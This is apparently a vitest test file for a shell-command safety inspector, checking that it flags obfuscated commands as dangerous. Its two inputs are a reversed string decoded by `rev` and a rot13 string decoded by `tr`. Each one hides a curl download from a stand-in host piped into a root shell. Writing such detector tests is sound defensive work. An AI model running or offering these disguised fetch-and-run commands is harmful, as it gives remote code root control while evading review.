/**
 * Attack: the command is written backwards (or rot13) and decoded by `rev` (or `tr`) on its way into a root shell.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('rev decoder', () => {
  it.each([
    ["echo 'hs.p/elpmaxe.x//:sptth LSsf- lruc' | rev | sudo sh", 'decoded-payload', 'high'],
    [
      "echo 'phey -f uggcf://k.rknzcyr/c | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sudo bash",
      'decoded-payload',
      'high',
    ],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
